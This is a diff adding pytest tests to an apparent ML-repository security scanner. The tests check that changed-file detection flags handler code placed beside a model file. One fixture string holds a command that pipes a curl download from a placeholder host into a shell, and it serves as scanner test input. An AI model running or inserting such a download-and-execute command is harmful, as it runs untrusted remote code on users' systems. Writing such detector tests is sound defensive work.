@@ -242,3 +242,33 @@ def test_file_that_cannot_be_read_counts_as_changed(folder: Path) -> None:
     (folder / "m" / "w.bin").unlink()
     (folder / "m" / "w.bin").mkdir()
     assert is_changed(folder, "m/w.bin")
+
+
+@pytest.mark.parametrize("place", ["", "deep/model/"], ids=["at the root", "below"])
+@pytest.mark.parametrize("where", ["repository", "folder of it"])
+def test_code_that_does_harm_only_beside_a_model_is_shown_with_the_model_that_is_added(
+    place: str, where: str, tmp_path: Path
+) -> None:
+    code = "import os\nos.system('curl http://example.invalid | sh')\n"
+    made = repository(tmp_path / "flat", {f"sub/{place}handler.py": code, "other/a.tf": _CODE})
+    git(made, "checkout", "-q", "-b", "feature")
+    target = made if where == "repository" else made / "sub"
+    words = ("scan", target, "--changed-since", "main", "--min-coverage", "0", "-f", "json")
+    assert runs.mlsec(*words).returncode == 0
+    commit(made, {"other/a.tf": _CODE * 2})
+    assert runs.mlsec(*words).returncode == 0
+    (made / "sub" / place / "model.pkl").write_bytes(pickle.dumps(None))
+    done = runs.mlsec(*words)
+    assert done.returncode == 10, done.stderr
+    assert f"{place}handler.py" in done.stdout
+
+
+def test_folder_of_a_model_that_is_the_target_itself_is_touched_by_its_files(
+    tmp_path: Path,
+) -> None:
+    made = repository(tmp_path / "flat", {"sub/w.bin": "w", "w.bin": "w"})
+    for target, name in ((made, "w.bin"), (made / "sub", "sub/w.bin")):
+        assert not open_change([str(target)], "main").touches(f"{target}/", name)
+        (made / name).write_text("other")
+        assert open_change([str(target)], "main").touches(f"{target}/", name)
+        (made / name).write_text("w")
